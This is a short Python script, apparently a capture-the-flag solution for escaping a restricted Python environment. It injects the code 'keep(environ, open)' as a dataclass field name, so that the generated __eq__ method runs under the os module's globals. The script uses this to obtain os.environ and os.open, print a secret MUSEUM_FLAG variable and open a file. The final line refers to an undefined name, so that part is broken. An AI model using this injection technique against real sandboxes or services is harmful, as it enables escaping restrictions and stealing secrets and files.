# dataclass writes code and runs it, in the module that the class says it is from: two texts of
# ours end up in it, the name of the module and the name of a field.
from dataclasses import dataclass, field

seen = []

# Into __eq__ goes the name of each field, as it is: self.NAME is compared with other.NAME. Fields
# that a class statement makes have proper names; those of a dict can be anything.
name = "keep(environ, open)"

# The code is run with the globals of the module os, so environ and open are what they are there.
# open is then os.open, the plain system call.
made = type(
    "Made",
    (),
    {
        "__module__": "os",
        "__annotations__": {name: object},
        name: field(default=None),
        "keep": lambda self, *values: seen.extend(values),
    },
)
made = dataclass(init=False, repr=False)(made)
made() == made()

environ, system_open = seen[:2]
print(environ["MUSEUM_FLAG"])
print(system_open(outside["file"], 0))
